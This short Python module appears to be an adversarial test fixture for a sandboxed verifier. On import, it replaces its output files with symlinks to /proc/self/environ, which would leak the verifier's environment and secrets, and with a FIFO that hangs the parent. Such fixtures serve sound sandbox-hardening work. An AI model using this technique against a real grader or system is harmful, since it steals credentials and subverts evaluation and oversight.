"""Adversarial: turns the sandbox's output files against the verifier.

At import it replaces its stderr file with a link to ``/proc/self/environ`` (read by a
parent that follows links, that is the verifier's own unscrubbed environment, printed in
the diagnostics), its stdout file with a FIFO (a parent that opens it by path waits forever)
and writes its result file as a link to the parent's environment too, then exits cleanly.
"""

import contextlib
import os
import sys

BOX = sys.argv[-1]  # the worker's argument: its sandbox directory
for name in ("stderr.txt", "result.bin"):
    with contextlib.suppress(OSError):
        os.unlink(os.path.join(BOX, name))
    os.symlink("/proc/self/environ", os.path.join(BOX, name))
os.unlink(os.path.join(BOX, "stdout.txt"))
os.mkfifo(os.path.join(BOX, "stdout.txt"))
sys.stdout.flush()
os._exit(0)


def build():
    raise AssertionError("never reached")
